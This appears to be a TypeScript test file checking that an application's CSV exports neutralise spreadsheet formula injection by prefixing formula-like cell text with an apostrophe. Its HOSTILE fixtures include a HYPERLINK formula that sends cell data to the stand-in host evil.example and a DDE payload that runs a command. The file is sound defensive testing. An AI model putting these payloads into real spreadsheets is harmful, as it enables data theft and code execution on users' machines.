/**
 * CSV exports must not carry spreadsheet formulas: text that starts like one is
 * written with a leading apostrophe, numbers (negative too) stay numbers. The
 * hostile texts go straight into the database, since the name validators refuse them.
 */
import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { expect, it } from 'vitest';
import { auditCsv } from '../audit/auditCsv';
import { describeEachEngine } from '../testing/databases';
import { request } from '../testing/request';

const GRID = '450902005001002';
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
  party_org_name: "+cmd|' /C calc'!A0",
  party_org_type: '@SUM(1+1)',
  party_secretary: '－1+1',
} as const;

async function csvRows(db: Parameters<typeof request>[0], path: string): Promise<Record<string, string>[]> {
  const res = await request(db, path);
  expect(res.status).toBe(200);
  return parse((await res.text()).replace(/^\uFEFF/, ''), { columns: true }) as Record<string, string>[];
}

describeEachEngine('CSV exports neutralise formulas', (db) => {
  it('writes formula-like grid texts with a leading apostrophe and negative numbers as numbers', async () => {
    await db().rows(sql`
      UPDATE grids SET name = ${HOSTILE.name}, party_org_name = ${HOSTILE.party_org_name}, party_org_type = ${HOSTILE.party_org_type},
                       party_secretary = ${HOSTILE.party_secretary}, households = -3
      WHERE code = ${GRID}`);
    const [row] = await csvRows(db(), `/api/exports/grids?format=csv&region=${GRID}`);
    expect(row).toBeDefined();
    for (const [field, text] of Object.entries(HOSTILE)) expect(row![field], field).toBe(`'${text}`);
    expect(row!.households).toBe('-3');
    expect(row!.code).toBe(GRID);
    expect(row!.WKT).toMatch(/^MULTIPOLYGON/);
  });

  it('does the same for centre names, including tab, CR and full-width prefixes', async () => {
    const names = ['@SUM(1+1)', '\t=1+1', '\r=1+1', '＝1+1', '＋1', '＠SUM(A1)', '-2+3'];
    const ids = await db().rows<{ id: number }>(sql`SELECT id FROM service_centres ORDER BY id LIMIT ${names.length}`);
    for (const [i, { id }] of ids.entries()) await db().rows(sql`UPDATE service_centres SET name = ${names[i]!} WHERE id = ${id}`);
    const rows = await csvRows(db(), '/api/exports/centres?format=csv');
    const byId = new Map(rows.map((r) => [Number(r.id), r]));
    for (const [i, { id }] of ids.entries()) expect(byId.get(Number(id))?.name).toBe(`'${names[i]}`);
    // Plain names are untouched.
    expect(rows.filter((r) => !ids.some(({ id }) => Number(id) === Number(r.id))).every((r) => !r.name!.startsWith("'"))).toBe(true);
  });

  it('the audit CSV neutralises through the same cell writer (full-width prefixes too)', () => {
    const text = auditCsv([{ id: 1, actor: '＝cmd', action: 'POST', entity: 'grids', entityId: '@1', at: '2025-01-01T00:00:00Z', ip: '-1', detail: null }]);
    expect(text).toContain(`"1","'＝cmd","POST","grids","'@1","2025-01-01T00:00:00Z","'-1",""`);
  });
});
